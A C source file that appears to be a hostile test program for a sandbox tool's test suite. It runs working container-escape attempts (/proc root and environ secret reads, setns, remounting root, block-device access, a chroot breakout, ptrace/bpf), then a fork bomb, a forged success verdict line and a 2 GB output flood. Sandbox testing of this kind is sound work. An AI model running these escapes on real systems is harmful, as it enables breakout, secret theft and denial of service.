/* A hostile "python": run by the sandbox tests in place of an image's
 * interpreter (or of cuvet-probe). It tries every escape the issue lists,
 * prints one line per attempt, "<name> blocked <why>" or "<name> ESCAPED
 * <what>", then what it is (uid map, CapEff, NoNewPrivs, Seccomp), then a
 * result line claiming success, then floods stdout with 2 GB.
 *   CUVET_HOSTILE_MARKER  a host file it must not be able to read
 *   CUVET_HOSTILE_PORT    a TCP port listening on the host's 127.0.0.1
 *   CUVET_HOSTILE_SECRET  a text found in cuvet's own environment only
 *   CUVET_HOSTILE_FORKS   how many forks to try (fork bomb), default 2000
 *   CUVET_HOSTILE_FLOOD   bytes to write to stdout at the end, default 2 GB
 *   CUVET_HOSTILE_HARMLESS  only the attempts that change nothing on a host
 *                         (reads, connects): the tests' unsandboxed control */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

/* A one-line summary for stderr, where cuvet's findings quote the last lines. */
static char summary[4096] = "hostile summary:";

static void note(const char* format, const char* value) {
    size_t used = strlen(summary);
    snprintf(summary + used, sizeof summary - used, format, value);
}

static void report(const char* name, int escaped, const char* detail) {
    printf("%s %s %s\n", name, escaped ? "ESCAPED" : "blocked", detail);
    fflush(stdout);
    note(escaped ? " %s=ESCAPED" : " %s=blocked", name);
}

static int read_text(const char* path, char* out, size_t size) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) return -1;
    ssize_t n = read(fd, out, size - 1);
    close(fd);
    if (n < 0) return -1;
    out[n] = 0;
    return (int)n;
}

static void try_marker(void) {
    const char* marker = getenv("CUVET_HOSTILE_MARKER");
    char path[4096], text[256];
    if (!marker) return;
    int seen = read_text(marker, text, sizeof text) >= 0;
    snprintf(path, sizeof path, "/proc/1/root%s", marker);
    seen |= read_text(path, text, sizeof text) >= 0;
    /* Every process's root, as on a host whose procfs is visible. */
    DIR* proc = opendir("/proc");
    struct dirent* entry;
    int pids = 0;
    while (proc && (entry = readdir(proc)) != NULL) {
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
        ++pids;
        snprintf(path, sizeof path, "/proc/%s/root%s", entry->d_name, marker);
        seen |= read_text(path, text, sizeof text) >= 0;
    }
    if (proc) closedir(proc);
    snprintf(text, sizeof text, "host file via its path and /proc/*/root (%d pids visible)", pids);
    report("proc_root", seen, text);
    printf("pids_visible %d\n", pids);
}

static void try_environ(void) {
    const char* secret = "CUVET_HOSTILE_SECRET=";
    char path[512], text[65536];
    DIR* proc = opendir("/proc");
    struct dirent* entry;
    int readable = 0, found = 0;
    while (proc && (entry = readdir(proc)) != NULL) {
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
        snprintf(path, sizeof path, "/proc/%s/environ", entry->d_name);
        int n = read_text(path, text, sizeof text);
        if (n < 0) continue;
        ++readable;
        for (int i = 0; i < n; i += (int)strlen(text + i) + 1)
            if (secret && strncmp(text + i, secret, strlen(secret)) == 0) found = 1;
    }
    if (proc) closedir(proc);
    snprintf(text, sizeof text, "%d environ files readable, cuvet's own environment %s", readable,
             found ? "found" : "not found");
    report("environ", found, text);
}

static int connect_to(const char* address, int port) {
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (fd < 0) return -errno;
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, address, &to.sin_addr);
    int rc = connect(fd, (struct sockaddr*)&to, sizeof to);
    if (rc != 0 && errno == EINPROGRESS) {
        struct pollfd p = {fd, POLLOUT, 0};
        int err = 0;
        socklen_t len = sizeof err;
        rc = poll(&p, 1, 2000) == 1 && getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &len) == 0 && err == 0 ? 0 : -1;
        if (rc != 0) errno = err ? err : ETIMEDOUT;
    }
    int saved = errno;
    close(fd);
    return rc == 0 ? 0 : -saved;
}

static void try_network(void) {
    const char* port = getenv("CUVET_HOSTILE_PORT");
    char text[256];
    int rc = connect_to("127.0.0.1", port ? atoi(port) : 22);
    snprintf(text, sizeof text, "connect 127.0.0.1:%s: %s", port ? port : "22", rc == 0 ? "connected" : strerror(-rc));
    report("loopback", rc == 0, text);
    rc = connect_to("8.8.8.8", 53);
    snprintf(text, sizeof text, "connect 8.8.8.8:53 (default route): %s", rc == 0 ? "connected" : strerror(-rc));
    report("default_route", rc == 0, text);
}

static void try_setns(void) {
    char text[256];
    int escaped = 0;
    for (int pid = 1; pid <= 2; ++pid) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/ns/net", pid == 1 ? 1 : getppid());
        int fd = open(path, O_RDONLY);
        if (fd < 0) continue;
        if (setns(fd, CLONE_NEWNET) == 0) escaped = 1;
        close(fd);
    }
    int fd = open("/proc/self/ns/net", O_RDONLY);
    int rc = fd >= 0 ? setns(fd, CLONE_NEWNET) : -1;
    snprintf(text, sizeof text, "setns(net): %s", rc == 0 ? "allowed" : strerror(errno));
    report("setns", escaped || rc == 0, text);
    rc = unshare(CLONE_NEWUSER | CLONE_NEWNS);
    snprintf(text, sizeof text, "unshare(user|mount): %s", rc == 0 ? "allowed" : strerror(errno));
    report("unshare", rc == 0, text);
}

static void try_remount(void) {
    char text[256];
    int rc = mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL);
    int e = errno;
    int fd = open("/hostile-was-here", O_WRONLY | O_CREAT, 0644);
    snprintf(text, sizeof text, "remount / rw: %s; create /hostile-was-here: %s", rc == 0 ? "allowed" : strerror(e),
             fd >= 0 ? "created" : strerror(errno));
    report("remount_root", rc == 0 || fd >= 0, text);
    if (fd >= 0) close(fd);
}

static void try_cgroup(void) {
    char text[256];
    int made = mkdir("/sys/fs/cgroup/cuvet-hostile", 0755) == 0;
    int e1 = errno;
    mkdir("/tmp/cg", 0755);
    int mounted = mount("cgroup2", "/tmp/cg", "cgroup2", 0, NULL) == 0;
    int e2 = errno;
    int fd = open("/sys/fs/cgroup/memory.max", O_WRONLY);
    int wrote = fd >= 0 && write(fd, "max", 3) == 3;
    snprintf(text, sizeof text, "mkdir in cgroupfs: %s; mount cgroup2: %s; write memory.max: %s",
             made ? "made" : strerror(e1), mounted ? "mounted" : strerror(e2), wrote ? "written" : "refused");
    report("cgroupfs", made || mounted || wrote, text);
}

static void try_block_device(void) {
    char text[256], buffer[512];
    int made = mknod("/tmp/blk", S_IFBLK | 0600, makedev(253, 0)) == 0 ||
               mknod("/tmp/blk", S_IFBLK | 0600, makedev(8, 0)) == 0;
    int e = errno;
    int got = 0;
    static const char* const paths[] = {"/tmp/blk", "/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/mem"};
    for (size_t i = 0; i < sizeof paths / sizeof paths[0]; ++i) {
        int fd = open(paths[i], O_RDONLY);
        if (fd >= 0 && read(fd, buffer, sizeof buffer) > 0) got = 1;
        if (fd >= 0) close(fd);
    }
    snprintf(text, sizeof text, "mknod block device: %s; read a block device: %s", made ? "made" : strerror(e),
             got ? "read" : "refused");
    report("block_device", got, text);
}

static void try_chroot_escape(void) {
    const char* marker = getenv("CUVET_HOSTILE_MARKER");
    char text[256], content[256];
    mkdir("/tmp/jail", 0755);
    int rc = chroot("/tmp/jail");
    int e = errno;
    for (int i = 0; i < 64; ++i) chdir("..");
    chroot(".");
    int seen = marker && read_text(marker, content, sizeof content) >= 0;
    snprintf(text, sizeof text, "chroot: %s; host file afterwards: %s", rc == 0 ? "allowed" : strerror(e),
             seen ? "read" : "not reachable");
    report("chroot_escape", seen, text);
}

static void try_kernel_calls(void) {
    char text[256];
    int traced = ptrace(PTRACE_ATTACH, getppid() > 0 ? getppid() : 1, 0, 0) == 0;
    int e1 = errno;
    int bpf = syscall(SYS_bpf, 0, NULL, 0) >= 0;
    int e2 = errno;
    int keys = syscall(SYS_keyctl, 0, 0, 0, 0, 0) >= 0;
    snprintf(text, sizeof text, "ptrace: %s; bpf: %s; keyctl: %s", traced ? "attached" : strerror(e1),
             bpf ? "allowed" : strerror(e2), keys ? "allowed" : "refused");
    report("kernel_calls", traced || bpf, text);
}

static void fork_bomb(void) {
    const char* wanted = getenv("CUVET_HOSTILE_FORKS");
    int limit = wanted ? atoi(wanted) : 2000, made = 0, e = 0;
    pid_t* children = calloc((size_t)limit, sizeof(pid_t));
    for (; made < limit; ++made) {
        pid_t pid = fork();
        if (pid == 0) {
            pause();
            _exit(0);
        }
        if (pid < 0) {
            e = errno;
            break;
        }
        children[made] = pid;
    }
    for (int i = 0; i < made; ++i) kill(children[i], SIGKILL);
    for (int i = 0; i < made; ++i) waitpid(children[i], NULL, 0);
    char text[256];
    snprintf(text, sizeof text, "%d of %d forks, then: %s", made, limit, made == limit ? "none refused" : strerror(e));
    report("fork_bomb", made == limit, text);
    printf("forks %d\n", made);
    snprintf(text, sizeof text, "%d", made);
    note(" forks=%s", text);
    free(children);
}

static void identity(void) {
    char text[8192];
    DIR* dev = opendir("/dev");
    struct dirent* entry;
    printf("dev");
    while (dev && (entry = readdir(dev)) != NULL)
        if (entry->d_name[0] != '.') printf(" %s", entry->d_name);
    printf("\n");
    if (dev) closedir(dev);
    if (read_text("/proc/self/uid_map", text, sizeof text) >= 0) {
        unsigned long inside = 0, outside = 0, count = 0;
        char mapped[96];
        printf("uid_map %s", text);
        sscanf(text, "%lu %lu %lu", &inside, &outside, &count);
        snprintf(mapped, sizeof mapped, "%lu->%lu(%lu)", inside, outside, count);
        note(" uid_map=%s", mapped);
    }
    if (read_text("/proc/self/status", text, sizeof text) < 0) return;
    for (char* line = strtok(text, "\n"); line; line = strtok(NULL, "\n")) {
        if (!strncmp(line, "Uid:", 4) || !strncmp(line, "CapEff:", 7) || !strncmp(line, "CapBnd:", 7) ||
            !strncmp(line, "NoNewPrivs:", 11) || !strncmp(line, "Seccomp:", 8)) {
            printf("status %s\n", line);
            note(" [%s]", line);
        }
    }
    fflush(stdout);
}

int main(void) {
    identity();
    try_marker();
    try_environ();
    try_network();
    if (getenv("CUVET_HOSTILE_HARMLESS")) {
        printf("hostile done\n");
        return 0;
    }
    try_setns();
    try_remount();
    try_cgroup();
    try_block_device();
    try_chroot_escape();
    try_kernel_calls();
    fork_bomb();
    /* What a compromised probe would claim: both result formats. */
    printf("CUVET_SMOKE {\"schema\":1,\"verdict\":\"ok\",\"stage\":\"done\",\"version\":\"9.9\",\"gpu_available\":true}\n");
    printf("hostile done\n");
    fflush(stdout);
    fprintf(stderr, "%s\n", summary);
    const char* flood = getenv("CUVET_HOSTILE_FLOOD");
    long long left = flood ? atoll(flood) : 2LL << 30;
    static char block[1 << 20];
    memset(block, 'A', sizeof block);
    while (left > 0) {
        ssize_t n = write(STDOUT_FILENO, block, left < (long long)sizeof block ? (size_t)left : sizeof block);
        if (n <= 0) break;
        left -= n;
    }
    return 0;
}
